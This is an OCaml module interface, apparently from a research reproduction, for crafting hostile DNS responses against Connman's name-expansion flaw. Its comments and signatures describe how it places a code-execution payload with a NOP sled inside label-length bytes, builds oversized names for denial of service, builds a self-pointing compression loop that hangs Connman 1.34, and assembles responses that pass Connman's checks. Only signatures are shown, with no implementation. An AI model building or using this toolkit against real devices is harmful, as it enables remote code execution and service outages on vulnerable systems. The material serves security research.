(** Crafting hostile DNS responses (the attacker's wire-format toolbox).

    The payload an exploit wants inside Connman's [name] buffer is exactly
    the length-prefixed label stream of the answer's (non-pointer) name
    bytes — so every ≤192nd payload byte is forced to be a label-length
    byte.  {!plan_labels} solves this placement problem: given a byte
    specification with fixed and don't-care positions, it chooses label
    boundaries that land only on compatible bytes (a NOP-sled byte 0x90
    doubles as the length 144, placeholder words absorb arbitrary
    lengths), producing a wire name whose vulnerable expansion is
    byte-for-byte the desired payload. *)

type byte_spec =
  | Fixed of char  (** this buffer position must hold exactly this byte *)
  | Any  (** don't-care (filler, placeholder register slot, …) *)

val plan_labels :
  ?label_max:int -> byte_spec array -> (string, string) result
(** Returns the wire-format name (terminating 0 byte included) whose
    [Name.expand_like_connman] equals the spec (don't-cares resolved).
    [label_max] defaults to 191, the largest length byte a permissive
    parser treats as a plain label; pass 63 for strictly RFC-valid labels.
    Fails if some stretch of fixed bytes longer than [label_max] leaves
    nowhere to put a boundary. *)

val realize : byte_spec array -> string
(** Resolve a spec to concrete bytes with the default filler in don't-care
    positions — for carriers that deliver payload bytes verbatim (§V's
    "crafted TCP packet" class), where no label-length constraint
    applies. *)

val spec_concat : byte_spec array list -> byte_spec array
val spec_any : int -> byte_spec array
val spec_fixed : string -> byte_spec array
(** Every byte fixed. *)

val dos_name : size:int -> string
(** A benign-looking giant name (wire form, terminator included) whose
    expansion exceeds [size] bytes — the denial-of-service trigger. *)

val pointer_loop_name : unit -> string
(** A name whose compression pointer points at itself: a correct decoder
    errors out; Connman 1.34's expander spins (hang DoS). *)

val hostile_response :
  query:Packet.t -> ?ttl:int -> ?rdata:string -> raw_name:string -> unit -> string
(** A complete wire message that passes Connman's pre-validation (same
    transaction id, question echoed, QR=1, one Type-A answer) but carries
    [raw_name] verbatim as the answer's owner name. *)

